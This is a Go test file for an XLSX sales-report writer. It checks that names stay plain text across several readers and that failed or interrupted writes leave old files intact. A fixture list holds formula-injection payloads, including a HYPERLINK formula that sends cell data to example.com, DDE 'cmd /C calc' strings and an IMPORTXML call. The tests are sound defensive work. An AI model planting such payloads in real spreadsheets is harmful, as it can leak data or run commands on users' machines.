package report_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/repeatsales/repeatsales/abcxyz"
	"github.com/repeatsales/repeatsales/internal/xlsx"
	"github.com/repeatsales/repeatsales/ltv"
	"github.com/repeatsales/repeatsales/orders"
	"github.com/repeatsales/repeatsales/report"
	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"
)

// malicious are names that a program may take for something else: formulas,
// commands, escapes of Excel's, markup, letters that run the other way.
var malicious = append([]string{
	`=HYPERLINK("http://example.com?"&A1,"click")`, "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1;=2", `=IMPORTXML("http://example.com")`,
	"_x000D_", "a_x0041_b", "_x0041_x0042_", "_x005F_", "_x005F_x0041_", "_xD800_", "_xZZZZ_", "_x004", "__x0041__", "_x0041_x005F_x0042_",
	"👩‍👩‍👧 𝒳 家族", "שלום עולם", "\u202eexe.xlsx", "e\u0301té", "a\u2028b", "\ufeffbom", "&amp;&#65;<v>1</v>", "</t></is></c>", "{=A1}", "#N/A", "#DIV/0!", "false", "1/2", "12:30", "1.5e300",
}, wild...)

// maliciousBook is every sheet with names in it, of customers, products, groups,
// salespersons, channels and the CRM's flag.
func maliciousBook(t testing.TB, names []string) report.Book {
	t.Helper()
	var lines []orders.Line
	for i, name := range names {
		for n := range 8 {
			lines = append(lines, orders.Line{
				Customer: name, CustomerName: name, Product: name, ProductName: name, Group: name, Salesperson: name, Channel: name, RepeatFlag: name,
				Order: fmt.Sprint(i, "-", n), Date: orders.NewDate(2024, 1, 1+i%20+45*n), Revenue: orders.Amount(100_000-i) * orders.One, COGS: orders.Known(50_000 * orders.One), Quantity: orders.One,
			})
		}
	}
	b := bookOf(t, each(lines), orders.Options{})
	c := cohortBook(t, lines, orders.Options{})
	b.Roles, b.Flags, b.Parts = c.Roles, c.Flags, c.Parts
	var err1, err2, err3, err4 error
	b.LTV, err1 = ltv.Predict(ctx, b.Sales, ltv.PredictOptions{})
	b.Measures, err2 = abcxyz.RankMeasures(ctx, b.Sales, abcxyz.MeasuresOptions{})
	customers, err3 := abcxyz.Top(ctx, b.Sales, abcxyz.TopOptions{N: 100})
	split, err4 := ltv.SplitProfit(ctx, b.Sales, ltv.SplitOptions{Costs: costs, By: orders.BySalesperson})
	if err := errors.Join(err1, err2, err3, err4); err != nil {
		t.Fatal(err)
	}
	b.Top, b.Splits = []*abcxyz.TopList{customers}, []*ltv.ProfitSplit{split}
	return b
}

// trimmed are names as reading leaves them.
func trimmed(names []string) (all []string) {
	for _, n := range names {
		all = append(all, strings.TrimSpace(n))
	}
	slices.Sort(all)
	return slices.Compact(all)
}

// texts are the cells of each sheet, read by excelize.
func textsByExcelize(t testing.TB, data []byte) map[string][]string {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	all := map[string][]string{}
	for _, s := range f.GetSheetList() {
		rows, err := f.GetRows(s, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		all[s] = slices.Concat(rows...)
	}
	return all
}

// textsByOurs are the same, read as an export is.
func textsByOurs(t testing.TB, data []byte) map[string][]string {
	t.Helper()
	book, err := xlsx.Open(ctx, bytes.NewReader(data), int64(len(data)), xlsx.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	all := map[string][]string{}
	for _, s := range book.Sheets() {
		for row, err := range s.Rows(ctx) {
			if err != nil {
				t.Fatal(err)
			}
			for _, c := range row.Cells {
				if c.Kind == xlsx.Text {
					all[s.Name] = append(all[s.Name], string(c.Text))
				}
			}
		}
	}
	return all
}

// TestNamesStayText: whatever anything is called, it is text on every sheet that
// shows it, and every reader reads it as it is: excelize, our own, LibreOffice.
func TestNamesStayText(t *testing.T) {
	names := trimmed(malicious)
	data := written(t, maliciousBook(t, malicious), report.Options{})
	f := open(t, data)
	for sheet, cells := range f.cells {
		for at, c := range cells {
			if slices.Contains(names, decoded(c.text)) && (c.formula != "" || c.kind != "inlineStr") && decoded(c.text) != "-1" { // −1 is a number, too
				t.Errorf("%s!%s is no text: %+v", sheet, at, c)
			}
		}
	}
	check := func(by string, all map[string][]string, blank func(string) bool) {
		t.Helper()
		for _, sheet := range []string{
			"ABC-XYZ customers", "ABC-XYZ products", "ABC-XYZ salespersons", "ABC by several measures", "Stability of products",
			"Hunters and farmers", "Repeat share by part", "CRM flag", "Profit by", "Customers by segment", "LTV by customer", "Top-100 customers",
		} {
			if all[sheet] == nil {
				t.Errorf("%s: no sheet %s among %q", by, sheet, slices.Sorted(maps.Keys(all)))
			}
			for _, n := range names {
				if !slices.Contains(all[sheet], n) && !blank(n) {
					t.Errorf("%s: %s lacks %q", by, sheet, n)
				}
			}
		}
	}
	none := func(string) bool { return false }
	check("excelize", textsByExcelize(t, data), none)
	check("ours", textsByOurs(t, data), none)
	// LibreOffice reads all of them; what it saves lacks the second escape of two
	// that share an underscore, so those are looked for in its CSV.
	check("LibreOffice", textsByOurs(t, recalculate(t, map[string][]byte{"names": data})["names"]), twoEscapes.MatchString)
	rows, err := csv.NewReader(bytes.NewReader(sheetAsCSV(t, data, 1+slices.Index(f.sheets, "ABC-XYZ customers")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range names {
		if twoEscapes.MatchString(n) && !slices.ContainsFunc(rows, func(row []string) bool { return slices.Contains(row, n) }) {
			t.Errorf("LibreOffice's CSV lacks %q", n)
		}
	}
}

var twoEscapes = regexp.MustCompile(`_x[0-9A-Fa-f]{4}_x[0-9A-Fa-f]{4}_`)

// sheetAsCSV returns the sheet of that number, from 1, as LibreOffice saves it as CSV.
func sheetAsCSV(t *testing.T, data []byte, sheet int) []byte {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "a.xlsx"), data, 0o666); err != nil {
		t.Fatal(err)
	}
	message, err := exec.Command("soffice", "-env:UserInstallation=file://"+filepath.ToSlash(dir)+"/profile", "--headless", "--convert-to",
		fmt.Sprintf("csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,%d", sheet), "--outdir", filepath.Join(dir, "out"), filepath.Join(dir, "a.xlsx")).CombinedOutput()
	if err != nil {
		t.Fatalf("soffice: %v\n%s", err, message)
	}
	files, err := filepath.Glob(filepath.Join(dir, "out", "*.csv"))
	if err != nil || len(files) != 1 {
		t.Fatalf("soffice wrote %q: %v\n%s", files, err, message)
	}
	csv, err := os.ReadFile(files[0])
	if err != nil {
		t.Fatal(err)
	}
	return csv
}

// decoded undoes Excel's escape of one underscore.
func decoded(s string) string { return strings.ReplaceAll(s, "_x005F_", "_") }

// TestAnyNames: text is read as it was, control characters but for tabs and
// line breaks being shown as their pictures.
func TestAnyNames(t *testing.T) {
	slow(t)
	alphabet := []rune("_xX0041zD85F&<>\"'=+-@ \t\n\x00\x1f\x7f\uffff\ufffdяא😀\u0301")
	rapid.Check(t, func(rt *rapid.T) {
		name := rapid.StringOfN(rapid.SampledFrom(alphabet), 1, 40, -1).Draw(rt, "name")
		day := orders.NewDate(2024, 1, 1)
		b := bookOf(t, each([]orders.Line{{Customer: "1", CustomerName: name, Date: day, Revenue: orders.One}}), orders.Options{})
		if len(b.Customers.Items) == 0 {
			rt.Skip("a name that means nobody")
		}
		want := strings.TrimSpace(b.Customers.Items[0].Name) // reading has its own rules for blanks
		want = strings.Map(func(r rune) rune {
			switch {
			case r == '\t' || r == '\n':
				return r
			case r < 0x20:
				return r + 0x2400
			case r == 0x7f:
				return 0x2421
			case r == 0xffff:
				return 0xfffd
			}
			return r
		}, b.Customers.Items[0].Name)
		if want == "" {
			rt.Skip("no name")
		}
		data := written(t, report.Book{Sales: b.Sales, Customers: b.Customers}, report.Options{})
		for by, all := range map[string]map[string][]string{"excelize": textsByExcelize(t, data), "ours": textsByOurs(t, data)} {
			if !slices.Contains(all["ABC-XYZ customers"], want) {
				rt.Errorf("%s does not read %q: %q", by, want, all["ABC-XYZ customers"])
			}
		}
	})
}

// TestFullDisk: wherever a writer fails, the error comes back, and WriteFile
// leaves the old file and nothing else.
func TestFullDisk(t *testing.T) {
	slow(t)
	b := bookOf(t, each(shortItems()), orders.Options{})
	data := written(t, b, report.Options{})
	for n := 0; n < len(data); n += 1 + len(data)/97 {
		full := failing(n)
		if err := report.Write(ctx, &full, b, report.Options{}); err == nil || !strings.Contains(err.Error(), "disk full") {
			t.Fatalf("full after %d of %d bytes: %v", n, len(data), err)
		}
	}
	enough := failing(len(data))
	if err := report.Write(ctx, &enough, b, report.Options{}); err != nil {
		t.Errorf("not full: %v", err)
	}
	if f, err := os.OpenFile("/dev/full", os.O_WRONLY, 0); err == nil {
		defer f.Close()
		if err := report.Write(ctx, f, b, report.Options{}); err == nil {
			t.Error("/dev/full took a workbook")
		}
	}
}

// TestInterrupted: stopped at any row, by the context or by Progress, writing
// leaves the old file and nothing else.
func TestInterrupted(t *testing.T) {
	b := bookOf(t, each(sold()), orders.Options{})
	dir := t.TempDir()
	path := filepath.Join(dir, "report.xlsx")
	if err := os.WriteFile(path, []byte("old"), 0o666); err != nil {
		t.Fatal(err)
	}
	calls := 0
	if err := report.Write(ctx, &bytes.Buffer{}, b, report.Options{Progress: func(int64, int64) error { calls++; return nil }}); err != nil || calls < 3 {
		t.Fatalf("%d calls of Progress: %v", calls, err)
	}
	stop := errors.New("stop")
	var out bytes.Buffer
	if err := report.Write(ctx, &out, b, report.Options{Progress: func(done, total int64) error {
		if done > total/2 {
			return stop
		}
		return nil
	}}); !errors.Is(err, stop) || out.Len() > 0 {
		t.Errorf("stopped halfway: %v; %d bytes are written", err, out.Len())
	}
	for at := 1; at <= calls; at++ {
		for _, cancels := range []bool{false, true} {
			ctx, cancel := context.WithCancel(ctx)
			n := 0
			err := report.WriteFile(ctx, path, b, report.Options{Progress: func(int64, int64) error {
				if n++; n < at {
					return nil
				}
				if cancels {
					cancel()
					return nil
				}
				return stop
			}})
			cancel()
			if want := map[bool]error{false: stop, true: context.Canceled}[cancels]; !errors.Is(err, want) {
				t.Errorf("stopped at call %d: %v, want %v", at, err, want)
			}
			entries, err := os.ReadDir(dir)
			if got, _ := os.ReadFile(path); string(got) != "old" || len(entries) != 1 || err != nil {
				t.Fatalf("stopped at call %d: the file has %d bytes, the folder %d files: %v", at, len(got), len(entries), err)
			}
		}
	}
}
